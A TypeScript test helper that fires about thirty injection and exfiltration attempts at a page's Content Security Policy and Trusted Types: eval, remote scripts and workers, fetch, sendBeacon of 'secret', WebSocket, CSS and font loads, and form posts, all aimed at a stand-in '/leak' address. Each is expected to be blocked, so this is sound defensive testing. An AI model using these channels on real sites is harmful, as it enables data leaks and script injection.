/** What a script in the page tries when it has got in somehow: each runs into the page's policy. */

/** How each attempt of `makeAttempts` ends. */
export const ATTEMPTS = {
  'eval of a text': 'EvalError',
  'a function made of text': 'EvalError',
  'a timer with a text': 'EvalError',
  'markup of text': 'TypeError',
  'a script element with an address elsewhere': 'TypeError',
  'a script element with text': 'TypeError',
  'a frame with markup': 'TypeError',
  'an object from elsewhere': 'TypeError',
  'a worker from elsewhere': 'TypeError',
  'a worker from a blob': 'TypeError',
  'a service worker from elsewhere': 'TypeError',
  'another policy': 'TypeError',
  'a second default policy': 'TypeError',
  'a module from elsewhere': 'TypeError',
  'a module from a blob': 'TypeError',
  'fetch from elsewhere': 'TypeError',
  'a request from elsewhere': 'NetworkError',
  'a socket': 'connect-src',
  'an event source': 'connect-src',
  'a beacon': 'connect-src',
  'a picture': 'img-src',
  'a style sheet': 'style-src-elem',
  'a style that imports': 'style-src-elem',
  'a background picture': 'img-src',
  'a font': 'font-src',
  'a sound': 'media-src',
  'a frame': 'frame-src',
  'a form': 'form-action',
  'a base address': 'base-uri',
  'a manifest': 'manifest-src',
} as const;

/** Runs in the page: nothing from outside of it is in scope. */
export async function makeAttempts(foreign: string): Promise<Record<string, string>> {
  const address = `${foreign}/leak`;
  const append = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    given: Partial<Record<keyof HTMLElementTagNameMap[Name], unknown>>,
  ): void => {
    document.body.append(Object.assign(document.createElement(name), given));
  };
  const link = (rel: string): void => {
    append('link', { rel, href: address });
  };
  const style = (text: string): void => {
    append('style', { textContent: text });
  };
  const throwing: Record<string, () => unknown> = {
    // eslint-disable-next-line no-eval
    'eval of a text': () => (0, eval)('1'),
    // eslint-disable-next-line @typescript-eslint/no-implied-eval
    'a function made of text': () => new Function('return 1'),
    // eslint-disable-next-line @typescript-eslint/no-implied-eval
    'a timer with a text': () => setTimeout('void 0', 0),
    'markup of text': () => (document.createElement('p').innerHTML = '<b>x</b>'),
    'a script element with an address elsewhere': () => {
      append('script', { src: address });
    },
    'a script element with text': () => {
      append('script', { text: 'void 0' });
    },
    'a frame with markup': () => {
      append('iframe', { srcdoc: '<p>x</p>' });
    },
    'an object from elsewhere': () => {
      append('object', { data: address });
    },
    'a worker from elsewhere': () => new Worker(address),
    'a worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['']))),
    'a service worker from elsewhere': () => navigator.serviceWorker.register(address),
    'another policy': () => policies().createPolicy('mine', {}),
    'a second default policy': () => policies().createPolicy('default', {}),
    'a module from elsewhere': () => import(address) as Promise<unknown>,
    'a module from a blob': () =>
      import(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))) as Promise<unknown>,
    'fetch from elsewhere': () => fetch(address, { mode: 'no-cors' }),
    'a request from elsewhere': () => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
  };
  const reported: Record<string, () => unknown> = {
    'a socket': () => new WebSocket(address.replace('http', 'ws')),
    'an event source': () => new EventSource(address),
    'a beacon': () => navigator.sendBeacon(address, 'secret'),
    'a picture': () => (new Image().src = address),
    'a style sheet': () => {
      link('stylesheet');
    },
    'a style that imports': () => {
      style(`@import "${address}"`);
    },
    'a background picture': () => {
      style(`body { background-image: url("${address}") }`);
    },
    'a font': () => {
      style(`@font-face { font-family: leak; src: url("${address}") } body { font-family: leak }`);
    },
    'a sound': () => new Audio(address).load(),
    'a frame': () => {
      append('iframe', { src: address });
    },
    'a form': () => {
      append('form', { action: address, method: 'post' });
      document.body.querySelector<HTMLFormElement>('form:last-of-type')?.submit();
    },
    'a base address': () => {
      document.head.append(Object.assign(document.createElement('base'), { href: foreign }));
    },
    'a manifest': () => {
      link('manifest');
    },
  };
  const ended: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(throwing)) {
    try {
      await attempt();
      ended[name] = 'done';
    } catch (error) {
      ended[name] = error instanceof Error ? error.name : String(error);
    }
  }
  for (const [name, attempt] of Object.entries(reported)) {
    ended[name] = await new Promise<string>((resolve) => {
      const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent): void => {
        done(effectiveDirective);
      };
      const timer = setTimeout(() => {
        done('no report');
      }, 1_500);
      const done = (what: string): void => {
        clearTimeout(timer);
        document.removeEventListener('securitypolicyviolation', listen);
        resolve(what);
      };
      document.addEventListener('securitypolicyviolation', listen);
      attempt();
    });
  }
  return ended;

  function policies(): { createPolicy: (name: string, rules: object) => unknown } {
    return (globalThis as unknown as { trustedTypes: ReturnType<typeof policies> }).trustedTypes;
  }
}
